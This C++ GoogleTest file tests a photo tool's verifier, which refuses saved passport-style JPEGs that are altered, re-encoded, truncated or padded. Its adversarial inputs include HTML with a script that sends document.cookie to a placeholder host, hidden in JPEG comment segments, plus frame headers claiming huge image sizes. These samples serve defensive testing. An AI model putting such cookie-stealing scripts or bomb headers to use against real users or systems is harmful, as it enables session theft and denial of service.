#include <filesystem>
#include <map>
#include <set>
#include <tuple>

#include <gtest/gtest.h>
#include <opencv2/imgcodecs.hpp>
#include <opencv2/imgproc.hpp>

#include "engine/Export.h"
#include "engine/PhotoAudit.h"
#include "engine/Verify.h"
#include "test_support.h"

namespace {

namespace fs = std::filesystem;
using Bytes = std::vector<std::uint8_t>;

class VerifyTest : public ::testing::Test {
protected:
    static void SetUpTestSuite() {
        cascade_ = new cv::CascadeClassifier(FindFaceCascade("", SystemFaceCascade()));
        ASSERT_FALSE(cascade_->empty()) << "install opencv-data";
    }
    static void TearDownTestSuite() { delete cascade_; }

    static VerifyOutcome Outcome(const Bytes& bytes) {
        return VerifySavedPhoto(bytes.data(), bytes.size(), *cascade_).outcome;
    }

    // The outcome's name, for readable failures.
    static std::string Name(const Bytes& bytes) { return VerifyOutcomeName(Outcome(bytes)); }

    // The outcome of the checks that read the bytes only; "none" when they all hold.
    static std::string LayoutName(const Bytes& bytes) {
        const SavedLayout layout = CheckSavedLayout(bytes.data(), bytes.size());
        return layout.failure ? VerifyOutcomeName(*layout.failure) : "none";
    }

    static Bytes Saved() {
        return ReadBytes(TestData("expected-saved/pass_red_test2_295x413.jpg"));
    }

    // The photo inside a saved file, as any decoder sees it.
    static cv::Mat Pixels(const Bytes& saved) { return cv::imdecode(saved, cv::IMREAD_COLOR); }

    static Bytes Encode(const cv::Mat& image, const std::string& ext,
                        std::vector<int> params = {}) {
        Bytes bytes;
        EXPECT_TRUE(cv::imencode(ext, image, bytes, params));
        return bytes;
    }

    static Bytes WithTrailer(Bytes bytes) {
        const auto trailer = MakePhotoTrailer();
        bytes.insert(bytes.end(), trailer.begin(), trailer.end());
        return bytes;
    }

    // Where the segment with marker `code` starts (its FF byte); the test fails without one.
    static std::size_t Segment(const Bytes& jpeg, std::uint8_t code) {
        for (std::size_t i = 2; i + 3 < jpeg.size(); ++i) {
            if (jpeg[i] == 0xFF && jpeg[i + 1] == code) {
                return i;
            }
        }
        ADD_FAILURE() << "no marker " << int(code);
        return 0;
    }

    // The first byte of the compressed picture data, just after the scan header.
    static std::size_t ScanData(const Bytes& jpeg) {
        const std::size_t sos = Segment(jpeg, 0xDA);
        return sos + 2 + (jpeg[sos + 2] << 8 | jpeg[sos + 3]);
    }

    // Where each segment from the JFIF header to the scan header starts.
    static std::vector<std::size_t> Boundaries(const Bytes& jpeg) {
        std::vector<std::size_t> at{2};
        while (jpeg[at.back() + 1] != 0xDA) {
            at.push_back(at.back() + 2 + (jpeg[at.back() + 2] << 8 | jpeg[at.back() + 3]));
        }
        return at;
    }

    // A marker segment with this payload.
    static Bytes MakeSegment(std::uint8_t marker, const Bytes& payload) {
        const std::size_t length = payload.size() + 2;
        Bytes segment{0xFF, marker, std::uint8_t(length >> 8), std::uint8_t(length & 0xFF)};
        segment.insert(segment.end(), payload.begin(), payload.end());
        return segment;
    }

    static Bytes Inserted(Bytes bytes, std::size_t at, const Bytes& what) {
        bytes.insert(bytes.begin() + static_cast<long>(at), what.begin(), what.end());
        return bytes;
    }

    // A whole segment copied out of `jpeg`, marker and length included.
    static Bytes CopyOf(const Bytes& jpeg, std::size_t at) {
        const std::size_t length = 2 + (jpeg[at + 2] << 8 | jpeg[at + 3]);
        return Bytes(jpeg.begin() + static_cast<long>(at),
                     jpeg.begin() + static_cast<long>(at + length));
    }

    static cv::CascadeClassifier* cascade_;
};

cv::CascadeClassifier* VerifyTest::cascade_ = nullptr;

TEST_F(VerifyTest, EverySavedReferencePhotoVerifies) {
    for (const auto& entry : fs::directory_iterator(TestData("expected-saved"))) {
        const Bytes bytes = ReadBytes(entry.path().string());
        const VerifyResult result = VerifySavedPhoto(bytes.data(), bytes.size(), *cascade_);
        EXPECT_EQ(VerifyOutcomeName(result.outcome), std::string("Verified")) << entry.path();
        EXPECT_FALSE(result.faces.empty()) << entry.path();
    }
}

// The whole shared example set, saved by Vetrix, when the machine has it next to the checkout.
TEST_F(VerifyTest, EveryPhotoOfTheSharedSavedSetVerifies) {
    const fs::path shared = fs::path(VETRIX_SOURCE_DIR) / "../shared/photos/expected-saved";
    if (!fs::is_directory(shared)) {
        GTEST_SKIP() << shared << " is absent";
    }
    int count = 0;
    for (const auto& entry : fs::directory_iterator(shared)) {
        const Bytes bytes = ReadBytes(entry.path().string());
        EXPECT_EQ(Name(bytes), "Verified") << entry.path();
        ++count;
    }
    EXPECT_GT(count, 0);
}

TEST_F(VerifyTest, WhatThisBuildSavesVerifiesAndDecodesAsOpenCvDecodesIt) {
    for (const char* name : {"pass_red_test2_295x413.jpg", "pass_white_test1_358x441.jpg",
                             "pass_red_test4_240x320.jpg"}) {
        RecordingAudit audit;
        audit.m_strCascadeFile.clear();
        ASSERT_TRUE(audit.LoadFaceCascade());
        audit.AuditFile(TestData(name), name);
        ASSERT_EQ(audit.m_nState, Passed) << name;
        const Bytes saved = EncodeApprovedPhoto(audit.m_matResult);
        const VerifyResult result = VerifySavedPhoto(saved.data(), saved.size(), *cascade_);
        EXPECT_EQ(result.outcome, VerifyOutcome::Verified) << name;
        EXPECT_EQ(result.width, audit.m_matResult.cols) << name;
        EXPECT_EQ(result.height, audit.m_matResult.rows) << name;

        // The faces verification reports are those the audit's detector finds in the decoded
        // photo, so the strict decoder must give the very pixels OpenCV gives.
        const cv::Mat strict = DecodeStrictJpeg(saved.data(), saved.size() - 10);
        ASSERT_FALSE(strict.empty()) << name;
        EXPECT_EQ(cv::norm(strict, Pixels(saved), cv::NORM_INF), 0) << name;
    }
}

TEST_F(VerifyTest, TheTrailerMustEndTheFile) {
    Bytes cut = Saved();
    cut.pop_back();
    EXPECT_EQ(Outcome(cut), VerifyOutcome::NoTrailer) << "last byte cut";
    cut.resize(cut.size() - 9);
    EXPECT_EQ(Outcome(cut), VerifyOutcome::NoTrailer) << "whole trailer cut";

    Bytes appended = Saved();
    appended.insert(appended.end(), {'e', 'x', 't', 'r', 'a'});
    EXPECT_EQ(Outcome(appended), VerifyOutcome::NoTrailer) << "data after the trailer";

    EXPECT_EQ(Outcome({}), VerifyOutcome::NoTrailer) << "empty file";
    const auto trailer = MakePhotoTrailer();
    EXPECT_EQ(Outcome(Bytes(trailer.begin(), trailer.end())), VerifyOutcome::NotJpeg)
        << "the trailer alone";
}

TEST_F(VerifyTest, AnythingButOneCleanJpegBeforeTheTrailerIsNotJpeg) {
    const Bytes saved = Saved();
    const Bytes jpeg(saved.begin(), saved.end() - 10);

    EXPECT_EQ(Outcome(WithTrailer(Encode(Pixels(saved), ".png"))), VerifyOutcome::NotJpeg)
        << "a PNG with the trailer";

    // A byte inverted at the start of the picture data breaks its Huffman coding. (A flip of
    // a coefficient's amplitude bits further on often decodes cleanly: see Verify.h.)
    Bytes flipped = saved;
    flipped[ScanData(saved)] ^= 0xFF;
    EXPECT_EQ(Outcome(flipped), VerifyOutcome::NotJpeg) << "byte flipped inside the JPEG";

    Bytes truncated(jpeg.begin(), jpeg.begin() + static_cast<long>(jpeg.size() * 3 / 4));
    truncated.insert(truncated.end(), {0xFF, 0xD9});
    EXPECT_EQ(Outcome(WithTrailer(truncated)), VerifyOutcome::NotJpeg)
        << "picture data cut short, end marker kept";
    EXPECT_EQ(LayoutName(WithTrailer(truncated)), "none") << "its structure is whole";

    // Marker structure that cannot be walked is refused before any decoding.
    Bytes overlong = saved;
    const std::size_t dqt = Segment(overlong, 0xDB);
    overlong[dqt + 2] = overlong[dqt + 3] = 0xFF;
    Bytes noStart = saved;
    noStart[1] = 0xD9;
    const Bytes noEnd = WithTrailer(Bytes(jpeg.begin(), jpeg.end() - 2));
    Bytes stray = saved;
    stray[Segment(stray, 0xC0)] = 0x00;  // a byte where the frame header's marker must be
    for (const auto& [what, bytes] :
         std::vector<std::pair<const char*, Bytes>>{{"segment longer than the file", overlong},
                                                    {"no start-of-image marker", noStart},
                                                    {"no end-of-image marker", noEnd},
                                                    {"no marker where one must be", stray}}) {
        EXPECT_EQ(LayoutName(bytes), "NotJpeg") << what;
        EXPECT_EQ(Name(bytes), "NotJpeg") << what;
    }
}

TEST_F(VerifyTest, BytesBetweenTheImageAndTheTrailerAreDataAfterImage) {
    const Bytes saved = Saved();
    const Bytes jpeg(saved.begin(), saved.end() - 10);

    Bytes gap = jpeg;
    gap.insert(gap.end(), {0, 1, 2});
    EXPECT_EQ(Name(WithTrailer(gap)), "DataAfterImage") << "three bytes";

    Bytes twice = jpeg;
    twice.insert(twice.end(), jpeg.begin(), jpeg.end());
    EXPECT_EQ(Name(WithTrailer(twice)), "DataAfterImage") << "two JPEG streams";

    Bytes html = jpeg;
    const std::string page = "<html><script>alert(document.cookie)</script></html>";
    html.insert(html.end(), page.begin(), page.end());
    EXPECT_EQ(Name(WithTrailer(html)), "DataAfterImage") << "a page after the image";
}

TEST_F(VerifyTest, OnlyTheSizesTheNormalisationMakesPass) {
    const cv::Mat photo = Pixels(Saved());
    const std::vector<int> q50{cv::IMWRITE_JPEG_QUALITY, 50};

    cv::Mat resized;
    cv::resize(photo, resized, cv::Size(300, 420), 0, 0, cv::INTER_AREA);
    EXPECT_EQ(Outcome(WithTrailer(Encode(resized, ".jpg", q50))), VerifyOutcome::WrongSize)
        << "resized to 300 x 420";

    const cv::Mat cropped = photo(cv::Rect(0, 0, photo.cols, photo.rows - 10)).clone();
    EXPECT_EQ(Outcome(WithTrailer(Encode(cropped, ".jpg", q50))), VerifyOutcome::WrongSize)
        << "cropped by 10 rows";

    cv::Mat rotated;
    cv::rotate(photo, rotated, cv::ROTATE_90_CLOCKWISE);
    EXPECT_EQ(Outcome(WithTrailer(Encode(rotated, ".jpg", q50))), VerifyOutcome::WrongSize);

    // Both ends of the range and the truncation of 1.4 x width: 215 x 301 and 294 x 411 are
    // sizes the normalisation writes (1.4 x 294 = 411.6); 294 x 412 is not.
    cv::Mat scaled;
    for (const auto& [size, expected] :
         std::vector<std::pair<cv::Size, VerifyOutcome>>{{{215, 301}, VerifyOutcome::Verified},
                                                         {{294, 411}, VerifyOutcome::Verified},
                                                         {{294, 412}, VerifyOutcome::WrongSize},
                                                         {{214, 299}, VerifyOutcome::WrongSize},
                                                         {{296, 414}, VerifyOutcome::WrongSize}}) {
        cv::resize(photo, scaled, size, 0, 0, cv::INTER_AREA);
        EXPECT_EQ(VerifyOutcomeName(Outcome(WithTrailer(Encode(scaled, ".jpg", q50)))),
                  std::string(VerifyOutcomeName(expected)))
            << size;
    }
}

TEST_F(VerifyTest, AFlippedByteInTheHeadersIsCaughtByTheRungThatReadsIt) {
    Bytes table = Saved();
    table[Segment(table, 0xDB) + 10] ^= 0x01;  // one value of the first quantisation table
    EXPECT_EQ(Outcome(table), VerifyOutcome::Reencoded);

    Bytes width = Saved();
    width[Segment(width, 0xC0) + 8] ^= 0x01;  // low byte of the width in the frame header
    // 268 columns become 269: still 17 blocks of 16 wide, so the data decodes, at a size the
    // normalisation never writes.
    EXPECT_EQ(Outcome(width), VerifyOutcome::WrongSize);
}

TEST_F(VerifyTest, AnotherQualityOrOptimisedCodingIsReencoded) {
    const cv::Mat photo = Pixels(Saved());
    EXPECT_EQ(Outcome(WithTrailer(Encode(photo, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 75}))),
              VerifyOutcome::Reencoded);
    EXPECT_EQ(Outcome(WithTrailer(Encode(photo, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 49}))),
              VerifyOutcome::Reencoded);
    // Same quantisation, Huffman tables fitted to the photo instead of the standard ones.
    EXPECT_EQ(Name(WithTrailer(Encode(
                  photo, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 50, cv::IMWRITE_JPEG_OPTIMIZE, 1}))),
              "Reencoded");
    cv::Mat grey;
    cv::cvtColor(photo, grey, cv::COLOR_BGR2GRAY);
    EXPECT_EQ(Name(WithTrailer(Encode(grey, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 50}))),
              "AlteredStructure")
        << "one component, one table of each kind";
    // Quality 50 written again by the same encoder cannot be told from the original.
    EXPECT_EQ(Outcome(WithTrailer(Encode(photo, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 50}))),
              VerifyOutcome::Verified);
}

TEST_F(VerifyTest, ASidewaysFaceCountsAsTheAuditAcceptedIt) {
    // The audit accepts this landscape photo by a face lying on its side; the detector finds
    // none upright in the normalised crop, only after a quarter turn.
    const Bytes saved =
        ReadBytes(TestData("expected-saved/orient_sideways_no_exif_blue_test2_579x413.jpg"));
    const VerifyResult result = VerifySavedPhoto(saved.data(), saved.size(), *cascade_);
    EXPECT_EQ(result.outcome, VerifyOutcome::Verified);
    EXPECT_NE(result.turn, 0);
    EXPECT_EQ(VerifySavedPhoto(Saved().data(), Saved().size(), *cascade_).turn, 0);
}

TEST_F(VerifyTest, APhotoWithoutAFaceIsNoFace) {
    cv::Mat plain(413, 295, CV_8UC3, cv::Scalar(200, 40, 30));
    cv::circle(plain, {147, 200}, 60, cv::Scalar(90, 120, 180), cv::FILLED);
    EXPECT_EQ(Outcome(WithTrailer(Encode(plain, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 50}))),
              VerifyOutcome::NoFace);
}

TEST_F(VerifyTest, AHeaderClaimingAHugeImageIsAnsweredWithoutDecoding) {
    Bytes bomb = Saved();
    // The frame header (FF C0, length, precision, then height and width) claims 30000 x 30000.
    for (std::size_t i = 2; i + 9 < bomb.size(); ++i) {
        if (bomb[i] == 0xFF && bomb[i + 1] == 0xC0) {
            bomb[i + 5] = bomb[i + 7] = 30000 >> 8;
            bomb[i + 6] = bomb[i + 8] = 30000 & 0xFF;
            break;
        }
    }
    const VerifyResult result = VerifySavedPhoto(bomb.data(), bomb.size(), *cascade_);
    EXPECT_EQ(result.outcome, VerifyOutcome::WrongSize);
    EXPECT_EQ(result.width, 30000);
    const SavedLayout layout = CheckSavedLayout(bomb.data(), bomb.size());
    EXPECT_EQ(layout.failure, VerifyOutcome::WrongSize) << "refused before decoding";
}

TEST_F(VerifyTest, AlteredCopiesOfASavedPhotoAreRefusedFromTheirBytes) {
    const Bytes saved = Saved();
    const cv::Mat photo = Pixels(saved);
    const std::size_t afterApp0 = Boundaries(saved)[1];

    // 1 MiB of markup and script hidden in comments, which every viewer skips.
    const std::string page =
        "<html><body><script>fetch('https://example.invalid/?c=' + "
        "document.cookie)</script></body></html>\n";
    Bytes comments;
    for (std::size_t total = 0; total < (1u << 20);) {
        Bytes payload;
        while (payload.size() + page.size() <= 65533) {
            payload.insert(payload.end(), page.begin(), page.end());
        }
        total += payload.size();
        const Bytes segment = MakeSegment(0xFE, payload);
        comments.insert(comments.end(), segment.begin(), segment.end());
    }
    const Bytes commented = Inserted(saved, afterApp0, comments);
    ASSERT_GT(commented.size(), saved.size() + (1u << 20));
    EXPECT_EQ(cv::norm(Pixels(commented), photo, cv::NORM_INF), 0) << "looks the same";
    EXPECT_EQ(LayoutName(commented), "ExtraSegment");
    EXPECT_EQ(Name(commented), "ExtraSegment");

    // The same with an EXIF orientation of 3: viewers show the photo upside down.
    const Bytes exif{'E',  'x',  'i', 'f', 0, 0,                    // identifier
                     'M',  'M',  0,   42,  0, 0, 0, 8,              // big-endian TIFF, IFD at 8
                     0,    1,                                       // one entry
                     0x01, 0x12, 0,   3,   0, 0, 0, 1, 0, 3, 0, 0,  // Orientation, SHORT, 1, 3
                     0,    0,    0,   0};                           // no next IFD
    const Bytes upsideDown = Inserted(commented, afterApp0, MakeSegment(0xE1, exif));
    cv::Mat turned;
    cv::rotate(photo, turned, cv::ROTATE_180);
    EXPECT_EQ(cv::norm(Pixels(upsideDown), turned, cv::NORM_INF), 0) << "shown upside down";
    EXPECT_EQ(LayoutName(upsideDown), "ExtraSegment");
    EXPECT_EQ(Name(upsideDown), "ExtraSegment");
    const Bytes onlyExif = Inserted(saved, afterApp0, MakeSegment(0xE1, exif));
    EXPECT_EQ(Name(onlyExif), "ExtraSegment") << "EXIF alone";

    // Re-encoded progressive at the same quality by the same library.
    const Bytes progressive = WithTrailer(
        Encode(photo, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 50, cv::IMWRITE_JPEG_PROGRESSIVE, 1}));
    EXPECT_EQ(LayoutName(progressive), "NotBaseline");
    EXPECT_EQ(Name(progressive), "NotBaseline");
}

TEST_F(VerifyTest, AHugeProgressiveImageIsRefusedFromItsHeader) {
    // A progressive photo whose frame header claims 7000 x 7000: decoding it would take a
    // coefficient buffer of some 150 MB before anything else is known. The structure and the
    // size refuse it, and report the size the header claims.
    Bytes huge = Encode(Pixels(Saved()), ".jpg",
                        {cv::IMWRITE_JPEG_QUALITY, 50, cv::IMWRITE_JPEG_PROGRESSIVE, 1});
    const std::size_t sof = Segment(huge, 0xC2);
    huge[sof + 5] = huge[sof + 7] = 7000 >> 8;
    huge[sof + 6] = huge[sof + 8] = 7000 & 0xFF;
    huge = WithTrailer(huge);
    const SavedLayout layout = CheckSavedLayout(huge.data(), huge.size());
    ASSERT_TRUE(layout.failure.has_value());
    EXPECT_EQ(VerifyOutcomeName(*layout.failure), std::string("NotBaseline"));
    EXPECT_EQ(layout.width, 7000);
    EXPECT_EQ(layout.height, 7000);
    const VerifyResult result = VerifySavedPhoto(huge.data(), huge.size(), *cascade_);
    EXPECT_EQ(VerifyOutcomeName(result.outcome), std::string("NotBaseline"));
    EXPECT_EQ(result.width, 7000);
    EXPECT_TRUE(result.faces.empty()) << "nothing was decoded";
}

TEST_F(VerifyTest, AnEditSavedAgainByTheSameEncoderVerifiesAndTheMessageClaimsNoMore) {
    // No check of the file can tell this from the original: the limit docs/verify.md states.
    cv::Mat edited = Pixels(Saved());
    cv::rectangle(edited, {30, 240, 120, 60}, cv::Scalar(0, 255, 0), 3);
    cv::putText(edited, "FAKE", {40, 285}, cv::FONT_HERSHEY_SIMPLEX, 1.2, cv::Scalar(0, 255, 0), 3);
    const Bytes resaved = WithTrailer(Encode(edited, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 50}));
    const VerifyResult result = VerifySavedPhoto(resaved.data(), resaved.size(), *cascade_);
    EXPECT_EQ(result.outcome, VerifyOutcome::Verified);
    EXPECT_STREQ(VerifyOutcomeMessage(result.outcome),
                 "文件的结构、尺寸和编码表与本工具的输出完全一致，并检测到人脸");
}

TEST_F(VerifyTest, StructureTheEncoderDoesNotWriteIsNamed) {
    const Bytes saved = Saved();
    const std::vector<std::size_t> at = Boundaries(saved);  // APP0, DQT, DQT, SOF0, DHT x 4, SOS
    ASSERT_EQ(at.size(), 9u);
    const cv::Mat photo = Pixels(saved);

    const auto withCode = [&saved](std::size_t offset, std::uint8_t code) {
        Bytes bytes = saved;
        bytes[offset] = code;
        return bytes;
    };
    const auto erased = [](Bytes bytes, std::size_t from, std::size_t count) {
        bytes.erase(bytes.begin() + static_cast<long>(from),
                    bytes.begin() + static_cast<long>(from + count));
        return bytes;
    };

    // The encoder's own restart interval: a DRI segment, then restart markers in the data.
    const Bytes restarts = WithTrailer(
        Encode(photo, ".jpg", {cv::IMWRITE_JPEG_QUALITY, 50, cv::IMWRITE_JPEG_RST_INTERVAL, 4}));
    const std::size_t dri = Segment(restarts, 0xDD);

    // Both quantisation tables in one segment, as other encoders write them.
    Bytes oneDqt = CopyOf(saved, at[1]);
    const Bytes second = CopyOf(saved, at[2]);
    oneDqt.insert(oneDqt.end(), second.begin() + 4, second.end());
    oneDqt[3] = std::uint8_t(oneDqt.size() - 2);
    Bytes mergedDqt = erased(saved, at[1], at[3] - at[1]);
    mergedDqt = Inserted(mergedDqt, at[1], oneDqt);

    Bytes swappedDht = erased(saved, at[4], at[5] - at[4]);
    swappedDht = Inserted(swappedDht, at[6] - (at[5] - at[4]), CopyOf(saved, at[4]));

    Bytes density = saved;
    density[at[0] + 4 + 8] ^= 0x02;  // the JFIF header's horizontal density

    for (const auto& [what, bytes, expected] :
         std::vector<std::tuple<const char*, Bytes, const char*>>{
             {"extended sequential frame (SOF1)", withCode(at[3] + 1, 0xC1), "NotBaseline"},
             {"arithmetic coded frame (SOF9)", withCode(at[3] + 1, 0xC9), "NotBaseline"},
             {"lossless frame (SOF3)", withCode(at[3] + 1, 0xC3), "NotBaseline"},
             {"restart interval", restarts, "ExtraSegment"},
             {"restart markers without their interval", erased(restarts, dri, 6),
              "AlteredStructure"},
             {"chroma sampled as luma (4:4:4)", withCode(at[3] + 4 + 7, 0x11), "AlteredStructure"},
             {"both quantisation tables in one segment", mergedDqt, "AlteredStructure"},
             {"Huffman tables in another order", swappedDht, "AlteredStructure"},
             {"no JFIF header", erased(saved, at[0], at[1] - at[0]), "AlteredStructure"},
             {"another JFIF density", density, "AlteredStructure"},
             {"fill byte before a marker", Inserted(saved, at[3], {0xFF}), "AlteredStructure"},
             {"16-bit quantisation table", withCode(at[1] + 4, 0x10), "AlteredStructure"},
             {"scan over part of the spectrum", withCode(at[8] + 4 + 8, 0x3E), "AlteredStructure"},
         }) {
        EXPECT_EQ(LayoutName(bytes), expected) << what;
        EXPECT_EQ(Name(bytes), expected) << what;
    }
}

TEST_F(VerifyTest, EverySegmentInsertedAnywhereInTheHeadersIsAnExtraSegment) {
    const Bytes saved = Saved();
    std::vector<std::size_t> at = Boundaries(saved);  // before each segment of the headers,
    at.push_back(saved.size() - 12);                  // and between the picture data and EOI
    std::vector<std::pair<std::string, Bytes>> segments{
        {"comment", MakeSegment(0xFE, {'h', 'i'})},
        {"restart interval", MakeSegment(0xDD, {0, 8})},
        {"second JFIF header", CopyOf(saved, at[0])},
        {"third quantisation table", CopyOf(saved, at[2])},
        {"fifth Huffman table", CopyOf(saved, at[4])},
        {"second frame header", CopyOf(saved, at[3])},
    };
    for (std::uint8_t n = 1; n < 16; ++n) {
        segments.emplace_back("APP" + std::to_string(n),
                              MakeSegment(std::uint8_t(0xE0 + n), {'x', 0, 1, 2}));
    }
    for (const auto& [what, segment] : segments) {
        for (const std::size_t where : at) {
            const Bytes bytes = Inserted(saved, where, segment);
            EXPECT_EQ(LayoutName(bytes), "ExtraSegment") << what << " at " << where;
            EXPECT_EQ(Name(bytes), "ExtraSegment") << what << " at " << where;
        }
    }
}

TEST_F(VerifyTest, EveryBitFlippedOutsideThePictureDataIsRefusedFromTheBytes) {
    const Bytes saved = Saved();
    const std::size_t data = ScanData(saved);
    std::vector<std::size_t> offsets;
    for (std::size_t i = 0; i < data; ++i) {
        offsets.push_back(i);
    }
    for (std::size_t i = saved.size() - 12; i < saved.size(); ++i) {  // end marker, trailer
        offsets.push_back(i);
    }
    int refused = 0;
    for (const std::size_t i : offsets) {
        for (int bit = 0; bit < 8; ++bit) {
            Bytes bytes = saved;
            bytes[i] ^= std::uint8_t(1 << bit);
            if (LayoutName(bytes) != "none") {
                ++refused;
            } else {
                ADD_FAILURE() << "bit " << bit << " of byte " << i << " passes";
            }
        }
    }
    EXPECT_EQ(refused, static_cast<int>(offsets.size()) * 8);
    EXPECT_GT(refused, 8 * 600) << "the headers are some 620 bytes";
}

TEST_F(VerifyTest, EveryCutOfTheStreamIsNotJpeg) {
    const Bytes saved = Saved();
    const Bytes jpeg(saved.begin(), saved.end() - 10);
    for (std::size_t length = 0; length < jpeg.size(); ++length) {
        const Bytes cut =
            WithTrailer(Bytes(jpeg.begin(), jpeg.begin() + static_cast<long>(length)));
        ASSERT_EQ(LayoutName(cut), "NotJpeg") << "cut to " << length << " bytes";
    }
}

TEST_F(VerifyTest, EveryOutcomeHasItsOwnNameAndMessageInTheJson) {
    std::set<std::string> names;
    std::set<std::string> messages;
    for (int value = 0; value <= 9; ++value) {
        const auto outcome = static_cast<VerifyOutcome>(value);
        names.insert(VerifyOutcomeName(outcome));
        messages.insert(VerifyOutcomeMessage(outcome));
        VerifyResult result;
        result.outcome = outcome;
        const std::string json = VerifyJson(std::nullopt, result);
        EXPECT_NE(json.find(std::string("\"outcome\": \"") + VerifyOutcomeName(outcome) + '"'),
                  std::string::npos)
            << json;
        EXPECT_NE(json.find(value == 0 ? "\"verified\": true" : "\"verified\": false"),
                  std::string::npos)
            << json;
    }
    EXPECT_EQ(names.size(), 10u);
    EXPECT_EQ(names.count("Unknown"), 0u);
    EXPECT_EQ(messages.size(), 10u);
    EXPECT_EQ(messages.count(""), 0u);
}

}  // namespace
